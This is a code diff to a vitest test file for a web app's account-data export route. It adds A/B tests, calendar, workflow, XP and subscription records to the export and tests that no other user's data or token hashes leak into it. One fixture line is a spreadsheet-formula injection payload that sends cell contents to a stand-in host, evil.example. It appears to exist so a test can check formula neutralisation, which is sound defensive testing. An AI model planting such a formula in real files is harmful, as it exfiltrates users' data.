@@ -4,7 +4,13 @@ import { describe, expect, it } from "vitest";
 import { GET as exportRoute } from "@/app/api/account/export/route";
 import { POST as generate } from "@/app/api/bio/generate/route";
 import { POST as createProfile } from "@/app/api/profile/route";
+import { createAbTest } from "@/lib/db/ab-tests";
+import { replaceCalendarFeed } from "@/lib/db/calendar-feeds";
+import { createCalendarItem } from "@/lib/db/calendar-items";
+import { db } from "@/lib/db/client";
+import { claimDailyXp } from "@/lib/db/gamification";
 import { createShare } from "@/lib/db/shares";
+import { createWorkflow } from "@/lib/db/workflows";
 import { recordTrackEvent } from "@/lib/db/track-events";
 import { callRoute } from "../support/call-route";
 import { addLinkInBio } from "../support/link-in-bio";
@@ -38,6 +44,19 @@ const KINDS = [
   "pageLinks",
   "utmPresets",
   "linkEvents",
+  "teamMemberships",
+  "teamBios",
+  "teamBioComments",
+  "teamActivity",
+  "teamInvites",
+  "notifications",
+  "abTests",
+  "abVariants",
+  "calendarItems",
+  "calendarFeed",
+  "workflows",
+  "dailyXp",
+  "stripeSubscriptions",
 ];
 
 async function download(headers: Record<string, string>, query = "") {
@@ -54,7 +73,13 @@ function unzip(bytes: Uint8Array) {
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
 
-async function userWithData(): Promise<{ user: User; username: string; shareId: string; linkId: string }> {
+async function userWithData(): Promise<{
+  user: User;
+  username: string;
+  shareId: string;
+  linkId: string;
+  pageId: string;
+}> {
   const user = await registerUser({ displayName: "Export Person" });
   const username = `exp_${Date.now().toString(36)}${Math.floor(Math.random() * 1e6)}`;
   const profile = await callRoute(createProfile, {
@@ -71,8 +96,50 @@ async function userWithData(): Promise<{ user: User; username: string; shareId: 
   expect(generated.status).toBe(200);
   const share = await createShare({ userId: user.user.id, description: "-2+3", tone: "bold", bio: FORMULA });
   await recordTrackEvent({ bioId: share.id, event: "click", source: "share-page" });
-  const { linkId } = await addLinkInBio(user.user.id, user.auth);
-  return { user, username, shareId: share.id, linkId };
+  const { linkId, pageId } = await addLinkInBio(user.user.id, user.auth);
+  return { user, username, shareId: share.id, linkId, pageId };
+}
+
+/** One of each of the later features' records: an A/B test, a calendar item and feed, a workflow, daily XP, a subscription. */
+async function addLaterRecords({ user, pageId }: { user: User; pageId: string }, label: string) {
+  const userId = user.user.id;
+  const test = await createAbTest({
+    userId,
+    pageId,
+    kind: "page",
+    name: `Test ${label}`,
+    bios: [`A ${label}`, `B ${label}`],
+  });
+  if (test === "conflict") throw new Error("unexpected running test");
+  const item = await createCalendarItem({
+    userId,
+    day: "2026-12-01",
+    contentType: "reel",
+    title: `Reel ${label}`,
+    description: "",
+    bio: "",
+    hashtags: '["#bread"]',
+    status: "planned",
+  });
+  const tokenHash = `feed-hash-${label}-${Math.random().toString(36).slice(2)}`;
+  await replaceCalendarFeed({ userId, tokenHash });
+  const workflow = await createWorkflow({ userId, templateId: "launch-week", title: `Launch ${label}` });
+  expect(await claimDailyXp({ userId, day: "2026-01-05", kind: `kind-${label}`, xp: 5, cap: 50 })).toBe(true);
+  const customerId = `cus_${label}_${Math.random().toString(36).slice(2)}`;
+  const subscriptionId = `sub_${label}_${Math.random().toString(36).slice(2)}`;
+  await db.user.update({ where: { id: userId }, data: { stripeCustomerId: customerId }, select: { id: true } });
+  await db.stripeSubscription.create({
+    data: { id: subscriptionId, customerId, status: "premium", lastEventAt: new Date() },
+    select: { id: true },
+  });
+  return {
+    testId: test.id,
+    variantIds: test.variants.map((v) => v.id),
+    itemId: item.id,
+    tokenHash,
+    workflow,
+    subscriptionId,
+  };
 }
 
 describe("GET /api/account/export", () => {
@@ -133,6 +200,62 @@ describe("GET /api/account/export", () => {
     const generationsCsv = zip.text("csv/generations.csv");
     expect(generationsCsv.split("\r\n")[0]).toContain('"description"');
     expect(generationsCsv).toContain("Florist in Kyoto");
+  });
+
+  it("includes A/B tests, the calendar, workflows, daily XP and subscriptions, only the user's own", async () => {
+    const alice = await userWithData();
+    const bob = await userWithData();
+    const mine = await addLaterRecords(alice, "alice");
+    const theirs = await addLaterRecords(bob, "bob");
+    // A subscription of a customer nobody at BioStudio is: tied to no user, in no export.
+    await db.stripeSubscription.create({
+      data: { id: `sub_orphan_${Date.now()}`, customerId: "cus_orphan", status: "premium", lastEventAt: new Date() },
+      select: { id: true },
+    });
+
+    const zip = unzip((await download(alice.user.auth)).bytes);
+    const data = JSON.parse(zip.text("data.json")) as Record<string, unknown>;
+    expect(data.abTests).toEqual([
+      expect.objectContaining({ id: mine.testId, pageId: alice.pageId, name: "Test alice", status: "running" }),
+    ]);
+    expect(data.abVariants).toEqual([
+      expect.objectContaining({ id: mine.variantIds[0], testId: mine.testId, position: 0, bio: "A alice" }),
+      expect.objectContaining({ id: mine.variantIds[1], testId: mine.testId, position: 1, bio: "B alice" }),
+    ]);
+    expect(data.calendarItems).toEqual([
+      expect.objectContaining({ id: mine.itemId, day: "2026-12-01", contentType: "reel", title: "Reel alice" }),
+    ]);
+    expect(data.calendarFeed).toEqual({ on: true, createdAt: expect.any(String) as string });
+    expect(data.workflows).toEqual([
+      expect.objectContaining({ id: mine.workflow.id, templateId: "launch-week", title: "Launch alice" }),
+    ]);
+    expect(data.dailyXp).toContainEqual({ day: "2026-01-05", kind: "kind-alice", xp: 5 });
+    expect(data.stripeSubscriptions).toEqual([expect.objectContaining({ id: mine.subscriptionId, status: "premium" })]);
+    expect(zip.text("csv/abVariants.csv")).toContain("B alice");
+    expect(zip.text("csv/calendarItems.csv")).toContain("Reel alice");
+    expect(zip.text("csv/calendarFeed.csv").split("\r\n")[0]).toBe('"on","createdAt"');
+
+    const everything = zip.names.map(zip.text).join("\n");
+    expect(everything).not.toContain(mine.tokenHash);
+    expect(everything).not.toContain(theirs.tokenHash);
+    expect(everything).not.toMatch(/tokenHash|feed-hash|cus_orphan|sub_orphan/);
+    for (const other of [
+      theirs.testId,
+      ...theirs.variantIds,
+      theirs.itemId,
+      theirs.workflow.id,
+      theirs.subscriptionId,
+    ]) {
+      expect(everything).not.toContain(other);
+    }
+    expect(everything).not.toMatch(/Test bob|A bob|Reel bob|Launch bob|kind-bob/);
+  });
+
+  it("says the calendar feed is off when there is none", async () => {
+    const { user } = await userWithData();
+    const data = JSON.parse(unzip((await download(user.auth)).bytes).text("data.json")) as Record<string, unknown>;
+    expect(data.calendarFeed).toEqual({ on: false, createdAt: null });
+    expect(data.stripeSubscriptions).toEqual([]);
   });
 
   it("neutralises spreadsheet formulas in every CSV cell (= + - @ prefixed with ')", async () => {
